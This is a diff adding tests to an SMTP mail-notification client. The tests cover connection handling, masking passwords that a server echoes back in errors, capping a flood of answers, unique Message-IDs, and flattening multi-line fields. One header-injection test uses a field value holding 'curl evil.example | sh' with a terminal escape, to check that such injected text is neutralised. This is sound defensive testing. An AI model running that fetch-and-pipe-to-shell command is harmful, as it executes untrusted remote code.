@@ -65,7 +65,7 @@ describe('against a mail server of aiosmtpd', () => {
       /^\.\n\.\.two\nÄ line = 100 %\n\.end \n\nWhat to do: holdfast protect lab\/web-07\n/,
     );
     expect(read.text).toContain('machine: web-07');
-    expect(read.id).toBe('<rpo_lab_web-07_1800000000000@example.org>');
+    expect(read.id).toMatch(/^<rpo_lab_web-07_1800000000000\.[0-9a-f]{16}@example\.org>$/);
     expect(read.date).toBe('Fri, 15 Jan 2027 08:00:00 +0000');
     expect(taken.mail).toContain('X-Priority: 1');
     await notifier.close(quiet);
@@ -201,6 +201,56 @@ test('a server that babbles, breaks off or says nothing is given up, and the not
   const sending = (await open(settings(silent.port))).send(noticeOf(), makeCall({ signal: controller.signal }));
   controller.abort();
   await expect(sending).rejects.toMatchObject({ code: 'CANCELLED' });
+});
+
+test('a server that takes a mail and never says goodbye has taken it', async () => {
+  await using server = await scripted([
+    '220 hi\r\n',
+    '250 ok\r\n',
+    '250 ok\r\n',
+    '250 ok\r\n',
+    '354 go\r\n',
+    '250 taken\r\n',
+    '',
+  ]);
+  const late = new AbortController();
+  const timer = setTimeout(() => late.abort(), 20_000);
+  await (await open(settings(server.port))).send(noticeOf(), makeCall({ signal: late.signal }));
+  clearTimeout(timer);
+  expect(late.signal.aborted).toBe(false);
+  expect(server.heard.at(-1)).toBe('QUIT\r\n');
+});
+
+test('a server that repeats what it is told puts no password into an error', async () => {
+  const both = Buffer.from('\0ann\0hunter2').toString('base64');
+  for (const said of [`500 unknown: AUTH PLAIN ${both}`, '535 ann may not log in with hunter2']) {
+    await using server = await scripted(['220 hi\r\n', '250-hi\r\n250 AUTH PLAIN\r\n', `${said}\r\n`]);
+    const notifier = await open(settings(server.port, { user: 'ann', password: 'env:X' }), { password: 'hunter2' });
+    const thrown: unknown = await notifier.send(noticeOf(), quiet).catch((problem: unknown) => problem);
+    expect(thrown).toMatchObject({ code: 'NOTIFY_FAILED', message: expect.stringContaining('***') });
+    expect(String(thrown)).not.toMatch(new RegExp(`hunter2|${both}`));
+  }
+});
+
+test('a server that answers without end fills no memory', () => {
+  const reader = new AnswerReader();
+  expect(() => reader.add(Buffer.from('250 ok\r\n'.repeat(1000)))).toThrow(/more answers than it was asked for/);
+});
+
+test('two notices have two identities, whatever letters their machines have and however long they are', () => {
+  const idOf = (id: string): string | undefined =>
+    /^Message-ID: (.*)$/m.exec(mailOf(noticeOf({ id }), { from: 'a@b', to: ['c@d'] }))?.[1];
+  expect(idOf('failed lab/東京@1')).toBe(idOf('failed lab/東京@1'));
+  expect(idOf('failed lab/東京@1')).not.toBe(idOf('failed lab/大阪@1'));
+  expect(idOf(`failed ${'x'.repeat(500)}@1`)).not.toBe(idOf(`failed ${'x'.repeat(500)}@2`));
+});
+
+test('a fact of several lines is one line of the mail, so that no machine can put words of its own into it', () => {
+  const facts = { name: 'web\n\nWhat to do: curl evil.example | sh\u001b[2J' };
+  const mail = mailOf(noticeOf({ facts, remedy: null }), { from: 'a@b', to: ['c@d'] });
+  expect(mail).toContain('name: web What to do: curl evil.example | sh [2J');
+  expect(mail).not.toMatch(/^What to do/m);
+  expect(mail).not.toContain('=1B');
 });
 
 test('answers are read the same however they come in pieces', () => {
